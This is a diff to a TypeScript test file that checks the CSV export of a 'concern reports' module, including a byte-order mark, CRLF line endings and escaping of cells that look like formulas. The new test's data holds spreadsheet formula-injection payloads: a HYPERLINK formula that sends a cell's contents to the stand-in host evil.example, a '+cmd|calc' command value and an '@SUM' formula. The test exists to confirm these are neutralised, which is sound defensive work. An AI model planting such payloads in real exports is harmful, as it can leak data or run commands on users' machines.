@@ -45,6 +45,29 @@ describe('concern reports', () => {
     const wages = report.rows[1]!;
     expect(wages).toMatchObject({ slaMet: 2, slaTotal: 4, slaHitRate: 0.5, medianFirstResponseMinutes: 75.5, medianResolutionMinutes: 90.5 });
     expect(report.total).toMatchObject({ open: 1, resolved: 2 });
-    expect(reportToCsv(report).trim().split('\n')).toHaveLength(4);
+    const csv = reportToCsv(report);
+    expect(csv.startsWith('\uFEFFcategory,org_unit,level,open,resolved,')).toBe(true);
+    expect(csv.split('\r\n')).toEqual([
+      '\uFEFFcategory,org_unit,level,open,resolved,flagged,sla_met,sla_total,sla_hit_rate,median_first_response_min,median_resolution_min',
+      'overtime,ent-hoa-sen,0,1,0,0,0,0,,,',
+      'wages,ent-hoa-sen,0,0,2,0,2,4,0.5,75.5,90.5',
+      '*,*,*,1,2,0,2,4,0.5,75.5,90.5',
+      '',
+    ]);
+  });
+
+  it('writes a CSV that Excel opens safely: BOM first, and a unit or category that looks like a formula is shown as text', () => {
+    const row = (category: string, orgUnitId: string, level: number) => ({
+      category, orgUnitId, level, open: 1, resolved: 0, flagged: 0, slaMet: 0, slaTotal: 0, slaHitRate: null, medianFirstResponseMinutes: null, medianResolutionMinutes: -1.5,
+    });
+    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
+    const csv = reportToCsv({ rows: [row('wages', evil, 0), row('+cmd|calc', '@SUM(1+1)', 1)], total: row('*', '*', -1) });
+    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    const lines = csv.split('\r\n');
+    expect(lines[1]).toBe(`wages,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",0,1,0,0,0,0,,,-1.5`);
+    expect(lines[2]).toBe(`'+cmd|calc,'@SUM(1+1),1,1,0,0,0,0,,,-1.5`);
+    expect(lines[3]).toBe('*,*,*,1,0,0,0,0,,,-1.5');
+    // No line of the file starts a cell with a formula character any more.
+    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+@]/);
   });
 });
